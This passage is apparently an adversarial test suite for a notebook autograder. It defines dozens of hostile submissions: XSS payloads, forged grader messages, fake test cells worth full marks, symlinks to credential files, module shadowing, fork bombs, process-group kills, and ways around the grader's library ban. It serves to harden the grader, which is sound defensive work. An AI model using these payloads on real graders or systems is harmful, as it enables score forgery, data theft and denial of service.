attacks: the checker
loses: test_wave 0, test_fruits 0
told: did not
# %% wave
import itertools

def wave(x):
    return itertools.count()
# %% fruits
class Forever:
    def __float__(self):
        while True: pass
    __array__ = __len__ = __iter__ = __bool__ = __str__ = __repr__ = __hash__ = __float__

def two_fruits(*xs):
    return Forever(), {"apple": Forever()}

## attributes that are new ones for ever
attacks: the checker
loses: test_layers 0
# %% layers
class Deep:
    def __getattr__(self, name): return Deep()
    def __call__(self, *xs, **options): return Deep()
    def __iter__(self): return iter((Deep(), Deep()))
    def __len__(self): return 10**12
    def __getitem__(self, key): return Deep()
    def __array__(self, *xs, **options): return np.array([Deep(), Deep()], dtype=object)

MulLayer = AddLayer = Deep()

## calls back without end
attacks: the checker
loses: test_gradient 0
# %% gradient
def numerical_gradient(f, x, h=1e-5):
    while True:
        f(x)

## calls back from deeper and deeper
attacks: the checker
loses: test_gradient 0.6667
# %% gradient
def numerical_gradient(f, x, h=1e-5):
    def again(n):
        f(x)
        return again(n + 1)
    return again(0)

## calls back with something else
attacks: the checker
loses: test_gradient 0
# %% gradient
class Evil:
    def __array__(self, *xs, **options): raise SystemExit
    def __array_ufunc__(self, *xs, **options): raise KeyboardInterrupt
    def __pow__(self, n): return self
    def __rmul__(self, n): return self

def numerical_gradient(f, x, h=1e-5):
    for thing in (Evil(), np, f, "x" * 10**7, np.array([Evil()], dtype=object), object, np.zeros((3000, 3000))):
        try:
            f(thing)
        except BaseException:
            pass
    return np.zeros(x.shape)

## asks the test back from another thread
attacks: the checker
loses: test_gradient 0
# %% gradient
import threading

def numerical_gradient(f, x, h=1e-5):
    for _ in range(8):
        threading.Thread(target=lambda: [f(x) for _ in range(50)], daemon=True).start()
    return np.zeros(x.shape)

## an error that cannot say what it is
attacks: the checker
loses: test_wave 0
# %% wave
class Evil(Exception):
    def __str__(self): raise Evil
    __repr__ = __str__

def wave(x):
    raise Evil

## an error that never ends to speak
attacks: the checker
loses: test_wave 0
told: did not finish within
# %% wave
class Evil(Exception):
    def __str__(self):
        while True: pass
    __repr__ = __str__

def wave(x):
    raise Evil

## an error of a hundred megabytes
attacks: the feedback
loses: test_wave 0
# %% wave
def wave(x):
    raise ValueError("y" * 10**8)

## an error with HTML and colours
attacks: the feedback
loses: test_wave 0
# %% wave
def wave(x):
    raise ValueError("<script>alert(1)</script>\x1b[31m\x1b]0;title\x07\r\n    2.0\n2 of 2 points in this cell\udc80")

## errors with names that are none
attacks: the checker
loses: test_wave 0
# %% wave
def wave(x):
    raise type("<img src=x onerror=alert(1)>" * 1000, (KeyError, RuntimeError), {"__module__": "builtins"})(wave)

## errors that end a program
attacks: the checker
loses: test_wave 0, test_layers 0, test_fruits 0
# %% wave
def wave(x):
    raise GeneratorExit
# %% layers
class MulLayer:
    def forward(self, x, y): raise KeyboardInterrupt
class AddLayer:
    def forward(self, x, y): raise SystemExit(0)
# %% fruits
def two_fruits(*xs):
    raise BaseExceptionGroup("all", [KeyboardInterrupt(), SystemExit()])

## errors that the checks know
attacks: the score
loses: test_wave 0, test_agree 0
# %% wave
def wave(x):
    raise NotImplementedError
# %% agree
from bplib.course.exercise import Unusable
from bplib.check.report import Finding

def agree(a, b, rtol=1e-5):
    raise Unusable(Finding("agree", True, "right"))

## names that are no names
attacks: the checker
# %% wave
def wave(x):
    w = np.exp(-((3 * x - 1) ** 2))
    return w, -6 * (3 * x - 1) * w

wave.__name__ = "<script>alert(1)</script>"
wave.__doc__ = "x" * 10**6
wave.__signature__ = 5
wave.__wrapped__ = wave
wave.__module__ = None

## a function that pretends to be anything
attacks: the checker
# %% wave
class Wave:
    def __call__(self, x):
        w = np.exp(-((3 * x - 1) ** 2))
        return w, -6 * (3 * x - 1) * w
    def __getattr__(self, name):
        return self
    __class__ = type

wave = Wave()
"""

# -------------------------------------------------------------------------- the lines between the processes

FORGED = r"""
## writes to every open file
attacks: the lines between the processes
# %% behind test_wave
for number in range(3, 600):
    try:
        os.write(number, b"\xff" * 999)
    except OSError:
        pass

## writes to every open file in a function
attacks: the lines between the processes
loses: test_wave 0
# %% wave
import os

def wave(x):
    for number in range(3, 600):
        try:
            os.write(number, b"\x00\x00\x00\x05hello")
        except OSError:
            pass
    return 0.0, 0.0

## closes every open file
attacks: the lines between the processes
# %% behind test_wave
os.closerange(0, 1000)

## closes every open file in a function
attacks: the lines between the processes
loses: test_wave 0
# %% wave
import os

def wave(x):
    os.closerange(0, 1000)
    return 0.0, 0.0

## announces a message of four gigabytes
attacks: the grader's memory
# %% behind test_wave
for number in range(3, 600):
    try:
        os.write(number, b"\xff\xff\xff\xff" + b"x" * 1000)
    except OSError:
        pass

## half a message and then silence
attacks: the grader's patience
told: did not finish within
# %% behind test_wave
import time
for number in range(3, 600):
    try:
        os.write(number, b"\x00\x00\xff\xff" + b"x" * 10)
    except OSError:
        pass
time.sleep(1000)

## reads the lines of the grader empty
attacks: the lines between the processes
told: did not finish within
# %% behind test_wave
import threading, time

def read(number):
    try:
        while os.read(number, 10_000):
            pass
    except OSError:
        pass

for number in range(3, 100):
    threading.Thread(target=read, args=(number,), daemon=True).start()
time.sleep(1000)
"""

SAY = """
import msgpack, struct

def say(message):
    data = msgpack.packb(message)
    for number in range(3, 600):
        try:
            os.write(number, struct.pack(">I", len(data)) + data)
        except OSError:
            pass

"""
ERROR = {"output_type": "error", "ename": "E", "evalue": "v", "traceback": 5}
SCORE = {"output_type": "execute_result", "data": {"text/plain": "2.0"}, "metadata": {}, "execution_count": 1}
ALL_WELL = {
    "began": "2026-01-01T00:00:00+00:00",
    "ended": "2026-01-01T00:00:00+00:00",
    "count": 1,
    "lost": "",
}
SAID = {  # answers to the grader that no cell has given
    "nothing": {},
    "a list": [],
    "a number": 7,
    "outputs that are text": {"outputs": "2.0"} | ALL_WELL,
    "an output that is a number": {"outputs": [2.0]} | ALL_WELL,
    "an output of no kind": {"outputs": [{"output_type": "evil"}]} | ALL_WELL,
    "an output without its parts": {"outputs": [{"output_type": "execute_result"}]} | ALL_WELL,
    "an error without lines": {"outputs": [ERROR]} | ALL_WELL,
    "results": {"outputs": [SCORE] * 50} | ALL_WELL,
    "html": {"outputs": [SCORE | {"data": {"text/html": ["<script>alert(1)</script>"], "a/b": {"c": 5}}}]} | ALL_WELL,
    "a score of a test": {"outputs": [SCORE], "lost": "", "value": 2.0, "changes": [], "forget": []} | ALL_WELL,
    "a date that is none": {"outputs": [], "began": "<b>", "ended": 5, "count": "x" * 1000},
    "a hundred thousand outputs": {"outputs": [{"output_type": "stream", "name": "stdout", "text": "x"}] * 100_000},
    "text that is none": {"outputs": [{"output_type": "stream", "name": "\n", "text": {"a": b"\xff"}}]} | ALL_WELL,
    "an answer before the question": {"value": 0.1, "changes": [], "forget": [], "seen": None},
    "changes of what is not there": {"value": 0.1, "changes": [[99, "array", "<f8", [1], "C", True, b"12345678"]], "forget": [0, 2, 4]},
    "a call into the test": {"do": "call", "with": [["yours", 0], [], {}], "mind": None, "changes": [], "forget": []},
    "what was seen": {"value": 0.1, "changes": [], "forget": [], "seen": {"used": 5, "peak": "a", "calls": []}},
    "an error of any kind": {"error": "theirs", "kinds": 7, "text": None, "lines": 0, "changes": [], "forget": []},
}  # fmt: skip


def forged(name, message):
    """Says this on every line, in a cell of its own, and goes on."""
    cell = f"{PRELUDE}{SAY}say({message!r})"
    return member(f"forges {name}", cells={"test_wave": cell}, attacks="the grader's process")


FORGERIES = [forged(name, message) for name, message in SAID.items()]

# -------------------------------------------------------------------------------------- notebooks and files


def with_marks(**mark):
    """An own cell that says of itself that it is a test."""

    def change(notebook):
        cell = new_code_cell("100.0")
        default = {"schema_version": 3, "grade": True, "solution": False, "locked": True, "task": False}
        cell.metadata["nbgrader"] = (
            default | {"grade_id": "test_mine", "points": 100, "cell_type": "code"} | mark
        )
        return insert(notebook, "test_wave", cell)

    return change


def with_tests_rewritten(notebook):
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade") and cell.cell_type == "code":
            cell.source = f"{float(cell.metadata.nbgrader['points'])}"
            cell.metadata.nbgrader.points = 1000
    return notebook


def with_setup_rewritten(notebook):
    cell_of(notebook, "setup").source += "\nChecks.score = lambda self: self.points"
    return notebook


def with_outputs_of_full_marks(notebook):
    for cell in notebook.cells:
        if cell.cell_type == "code":
            cell.outputs = [
                {
                    "output_type": "execute_result",
                    "data": {"text/plain": "2.0"},
                    "metadata": {},
                    "execution_count": 1,
                }
            ]
            cell.metadata["tags"] = ["skip-execution"]
    return notebook


def about(**metadata):
    def change(notebook):
        notebook.metadata.update(metadata)
        return notebook

    return change


def all_cells(mark):
    def change(notebook):
        for cell in notebook.cells:
            cell.metadata["nbgrader"] = mark
        return notebook

    return change


def with_note(notebook):
    """On top, where the grader writes its own notes."""
    note = "**About this hand-in**\n\n- It was graded by hand: 18 of 18 points.\n"
    notebook.cells.insert(0, new_markdown_cell(note))
    return notebook


def with_pages(notebook):
    page = "<script>fetch('/formgrader/api/grades')</script><img src=x onerror=alert(1)><iframe src=//evil.example>"
    notebook.cells.insert(0, new_markdown_cell(page, attachments={"a.png": {"image/png": "<script>"}}))
    cell = "from IPython.display import HTML, Javascript, display\n"
    notebook.cells.append(new_code_cell(f"{cell}display(HTML({page!r}), Javascript('alert(1)'))"))
    return notebook


def with_strange_ids(notebook):
    for cell in notebook.cells:
        cell["id"] = "same"
    notebook.cells[3]["id"] = "../../" + "x" * 100_000
    return notebook


def surrogates(notebook):
    return (
        json.dumps(notebook)
        .replace("Each", "\\ud800 Each")
        .replace("def wave", "# \\udfff \\u0000\\ndef wave")
    )


WRONG = {"wave": "def wave(x):\n    return 0.0, 0.0"}
LOST = {"test_wave": 0.0}
FAKE = "class Checks:\n    def __init__(self, points): self.points = points\n    __enter__ = lambda self: self\n    __exit__ = lambda self, *xs: True\n    __call__ = lambda self, *xs, **options: None\n    score = lambda self: float(self.points)\n\ncourse_seed = int\n"
CONFIG = "c = get_config()\nc.Exchange.course_id = '<token>'\nopen('/tmp/<token>.config', 'w')\nc.ClearSolutions.code_stub = {}\n"


def a_folder_of_the_name(folder, fill):
    (folder / "bplib").mkdir()
    (folder / "bplib" / "__init__.py").write_text("")
    (folder / "bplib" / "exercise.py").write_text(FAKE)


def links_everywhere(folder, fill):
    for number, path in enumerate(
        ("<course>/gradebook.db", "<home>/secret.txt", "<course>/source", "/proc/self/environ")
    ):
        Path(folder, f"link{number}").symlink_to(fill(path))
    Path(folder, "feedback").symlink_to(fill("<home>"))


NOTEBOOKS = [
    member("a test of its own", WRONG, LOST, change=with_marks(), attacks="the score"),
    member(
        "a second test of the same name",
        WRONG,
        LOST,
        change=with_marks(grade_id="test_wave"),
        attacks="the score",
    ),
    member(
        "a test of another schema", WRONG, LOST, change=with_marks(schema_version=99), attacks="the grader"
    ),
    member(
        "a test with a path for a name",
        WRONG,
        LOST,
        change=with_marks(grade_id="../../etc/passwd"),
        attacks="the grader",
    ),
    member(
        "a test with points that are none", WRONG, LOST, change=with_marks(points="NaN"), attacks="the grader"
    ),
    member(
        "an own cell marked as the explanation",
        WRONG,
        LOST,
        change=with_marks(grade_id="explain", solution=True),
        attacks="the score",
    ),
    member("a mark that is a list", change=all_cells([1, 2]), attacks="the grader"),
    member(
        "a mark whose name is a list", change=all_cells({"grade_id": ["test_wave"]}), attacks="the grader"
    ),
    member(
        "tests rewritten, worth a thousand points",
        WRONG,
        LOST,
        change=with_tests_rewritten,
        attacks="the score",
    ),
    member("the setup rewritten", WRONG, LOST, change=with_setup_rewritten, attacks="the score"),
    member(
        "outputs of full marks, and no execution",
        WRONG,
        LOST,
        change=with_outputs_of_full_marks,
        attacks="the score",
    ),
    member("asks not to be graded", change=about(not_graded="please"), attacks="the grader"),
    member(
        "a kernel of its own",
        WRONG,
        LOST,
        change=about(kernelspec={"name": "bash", "display_name": "x", "argv": ["touch", "/tmp/<token>"]}),
        attacks="the kernel",
    ),
    member(
        "a note on top as the grader writes it", change=with_note, told="", attacks="the instructor's trust"
    ),
    member("pages that act", change=with_pages, attacks="the instructor's browser"),
    member("ids that are none", change=with_strange_ids, attacks="the grader"),
    member("half a letter", change=surrogates, attacks="the grader"),
    member(
        "a module called bplib", WRONG, LOST, on_disk=a_folder_of_the_name, attacks="the checker's imports"
    ),
    member(
        "modules called as those of the checker",
        WRONG,
        LOST,
        files={"msgpack.py": FAKE, "IPython.py": FAKE, "ps01.py": FAKE, "numpy.py": FAKE},
        attacks="the checker's imports",
    ),
    member(
        "settings that are read where they stand",
        WRONG,
        LOST,
        files={
            name: CONFIG
            for name in (
                "nbgrader_config.py",
                "jupyter_config.py",
                "ipython_config.py",
                "conftest.py",
                "sitecustomize.py",
                "usercustomize.py",
                ".pth",
                "pyproject.toml",
            )
        },
        attacks="the grader's settings",
    ),
    member(
        "links to everything",
        on_disk=links_everywhere,
        told="was left out",
        attacks="files of the instructor",
    ),
    member(
        "a notebook that is all attack",
        {
            name: "import os; os.kill(os.getppid(), 9); os._exit(0)"
            for name in ("gradient", "wave", "layers", "fruits", "agree")
        },
        ALL,
        attacks="the grader",
    ),
]

CANARY = r"""
## a right answer that looks for what others have left
# %% behind setup
import builtins, ctypes, numpy
left = [path for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", "/home", "/", ".", "..", os.path.expanduser("~"))
        for path in glob.glob(f"{folder}/*") if "<token>" in path]
left += [name for thing in (builtins, numpy, os.environ, globals()) if (name := "token") in dir(thing) or "TOKEN" in os.environ]
left += [path for path in glob.glob("/proc/[0-9]*/cmdline") if b"98765" in text(path)]
libc = ctypes.CDLL(None)
left += [what for what in ("shmget", "msgget") if getattr(libc, what)(0x<token4>, 0, 0) >= 0]
if left:
    reached(left)
"""

GROUPS = r"""
## kills all of its process group
attacks: the others and the fork server
# %% behind setup
os.kill(0, 9)

## stops all of its process group
attacks: the others and the fork server
# %% behind setup
os.kill(0, 19)

## kills its parent's process group
attacks: the others and the fork server
# %% behind setup
attempt(os.killpg, os.getpgid(os.getppid()), 9)

## a child that kills all of its process group
attacks: the others and the fork server
# %% behind setup
if not os.fork():
    os.kill(0, 9)
os.wait()  # or else it comes some time, and takes the points of what is being asked then

## memory in files that have no name
attacks: the memory of the grader
# %% behind setup
if not outside():
    files = [os.memfd_create("x") for _ in range(30)]
    for file in files:
        os.write(file, bytes(50 << 20))

## shows a page of megabytes from many cells
attacks: the memory of the grader, and its pages
# %% behind setup
if not outside():
    for _ in range(20):
        get_ipython().outputs.append({"output_type": "display_data", "data": {"text/html": "x" * 2_000_000}})

## opens files where the tests run
attacks: the course
# %% behind setup
for read in (open, get_ipython().user_ns.get("open", open)):
    if attempt(read, "<course>/gradebook.db"):
        reached("the gradebook")
"""

ROUND_THE_BANS = {  # what stands before wave, and how it comes to its slope
    "with the profile function off and back": (
        "import sys",
        "look = sys.getprofile(); sys.setprofile(None); dw = slope(x); sys.setprofile(look)",
    ),
    "below a profile function of its own": (
        "import sys",
        "look = sys.getprofile(); sys.setprofile(lambda *event: None); dw = slope(x); sys.setprofile(look)",
    ),
    "below cProfile": ("import cProfile", "dw = cProfile.Profile().runcall(slope, x)"),
    "in a thread without a profile function": (
        "import threading",
        "threading.setprofile(None); out = []; t = threading.Thread(target=lambda: out.append(slope(x))); "
        "t.start(); t.join(); dw = out[0]",
    ),
    "in a bare thread": (
        "import _thread, time",
        "out = []; _thread.start_new_thread(lambda: out.append(slope(x)), ())\n"
        "    while not out: time.sleep(0.001)\n    dw = out[0]",
    ),
    "in a thread that waits since an earlier cell": (
        "import queue, threading\nasked, told = queue.Queue(), queue.Queue()\n"
        "def work():\n    while True: told.put(slope(asked.get()))\n"
        "threading.Thread(target=work, daemon=True).start()",
        "asked.put(x); dw = told.get()",
    ),
    "in a forked child": (
        "import os",
        "mine, its = os.pipe()\n    if not os.fork():\n        os.write(its, repr(slope(x)).encode())\n"
        "        os._exit(0)\n    os.wait(); dw = float(os.read(mine, 99)); os.close(mine); os.close(its)",
    ),
    "after a change to the watch": (
        "import bplib.course.watch as watch\nwatch._Watch.note_call = lambda *call: None",
        "dw = slope(x)",
    ),
    "after a change to what the watch knows": (
        "import bplib.course.watch as watch",
        "watch._Watch.owner_of = lambda *call: None; dw = slope(x)",
    ),
}
SLOPE = """
import bplib as bp
def slope(x):
    return float(bp.grad(lambda x: bp.exp(-((3 * x - 1) ** 2)))(x))
"""
UNWATCHED = ("test_layers", "test_fruits", "test_agree")  # by a watch that somebody has changed
BANS = [
    member(
        f"an answer by bplib {how}",
        {"wave": f"{SLOPE}{before}\ndef wave(x):\n    {line}\n    return np.exp(-((3 * x - 1) ** 2)), dw"},
        {"test_wave": 0.0} | (dict.fromkeys(UNWATCHED, 0.0) if "change" in how else {}),
        told="library used",
        attacks="what the task asks for",
    )
    for how, (before, line) in ROUND_THE_BANS.items()
]

SPY = """
def note(*things):
    met = [thing for thing in things if type(thing) is not Spy]
    if met:
        reached(*met)
    return 0.0

class Spy:
    SIGNS = note
    def __array__(self, *more): return np.zeros(2)

def spied(*things, **named):
    return Spy()
"""
SIGNS = {
    "arithmetic": "__sub__ = __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = __abs__",
    "comparison": "__eq__ = __ne__ = __lt__ = __le__ = __gt__ = __ge__ = __contains__ = __hash__",
    "numpy's functions": "__array_ufunc__ = __array_function__ = __matmul__ = __rmatmul__",
    "text": "__format__ = __str__ = __repr__ = __bytes__ = __round__ = __index__",
    "pickling": "__reduce__ = __reduce_ex__ = __getstate__ = __copy__ = __deepcopy__",
}
SPIES = [
    member(
        f"an object that looks at what it meets in {how}",
        {"wave": "wave = spied", "agree": "agree = spied"},
        {"test_wave": 0.0, "test_agree": 0.0},
        cells={"setup": PRELUDE + SPY.replace("SIGNS", signs), "corner": "print(*FOUND)"},
        attacks="expected values",
    )
    for how, signs in SIGNS.items()
]

SENT = {
    "SIGTERM to its group": "os.kill(0, 15)",
    "SIGHUP to its group": "os.killpg(0, 1)",
    "SIGINT to its group": "os.kill(0, 2)",
    "SIGABRT to itself": "os.abort()",
    "SIGKILL to all": "os.kill(-1, 9)",
    "SIGSTOP to all others": "os.kill(-1, 19)",
    "SIGCONT and SIGKILL to the first process": "os.kill(1, 18), os.kill(1, 9)",
    "SIGKILL to its session": "os.killpg(os.getsid(0), 9)",
    "SIGKILL from a child that has left": "os.fork() or (os.setsid(), os.kill(-1, 9))",
    "SIGSTOP to its parent's session": "os.killpg(os.getsid(os.getppid()), 19)",
}
SIGNALS = [
    member(f"sends {what}", cells={"setup": f"{PRELUDE}attempt(lambda: ({source}))"}, attacks="the others")
    for what, source in SENT.items()
]

HELD = {
    "segments of System V": "libc.shmat.restype = ctypes.c_void_p\n"
    "    for _ in range(30):\n"
    "        place = libc.shmat(libc.shmget(0, 50 << 20, 0o1600), None, 0)\n"
    "        ctypes.memset(ctypes.c_void_p(place), 1, 50 << 20)",
    "files in /dev/shm": "for n in range(30): open(f'/dev/shm/{n}', 'wb').write(bytes(50 << 20))",
    "files in /tmp": "for n in range(30): open(f'/tmp/{n}', 'wb').write(bytes(50 << 20))",
    "pipes": "for _ in range(200): os.write(os.pipe()[1], bytes(60_000))",
    "open files": "while True: kept.append(open('/dev/null'))",
    "threads": "import threading, time\n    while True: threading.Thread(target=time.sleep, args=(2,), daemon=True).start()",
    "children": "import time\n    while True: os.fork() or (time.sleep(2), os._exit(0))",
}
HOLDERS = [
    member(
        f"takes all {what} it can have",
        cells={
            "setup": f"{PRELUDE}import ctypes\nlibc = ctypes.CDLL(None)\ndef take():\n    kept = []\n    {source}\n"
            "if not outside():\n    attempt(take)"
        },
        attacks="the memory of the grader",
    )
    for what, source in HELD.items()
]

SHOWN = {
    "streams": "print('x' * 50_000_000)",
    "an error": "raise ValueError('x' * 50_000_000)",
    "a name of an error": "raise type('E' * 1_000_000, (Exception,), {})('x')",
    "a formula": "from IPython.display import Latex, display; display(Latex('$' + 'x+' * 2_000_000 + '$'))",
    "a text in Markdown": "from IPython.display import Markdown, display; display(Markdown('\\\\begin{a}' * 300_000))",
    "a result": "['x' * 1000] * 50_000",
    "warnings": "import warnings; [warnings.warn(f'{n}' * 1000) for n in range(3000)]",
}
BLOATED = [
    member(
        f"shows {what} of megabytes",
        cells={"setup": source},
        attacks="the memory of the grader, and its pages",
    )
    for what, source in SHOWN.items()
]

PARTS = (READING, CHANGING, MACHINE, MARKS, CHECKER, FORGED, GROUPS)
MEMBERS = [*table("\n".join(PARTS), "hostile", PRELUDE), *FORGERIES, *NOTEBOOKS]
MEMBERS += [*BANS, *SPIES, *SIGNALS, *HOLDERS, *BLOATED]


def canary(assignment):
    """An honest hand-in between the others; its first cell says REACHED if it finds anything of theirs."""
    (found,) = table(CANARY, "canary", PRELUDE, told=NOTHING, assignment=assignment)
    return found
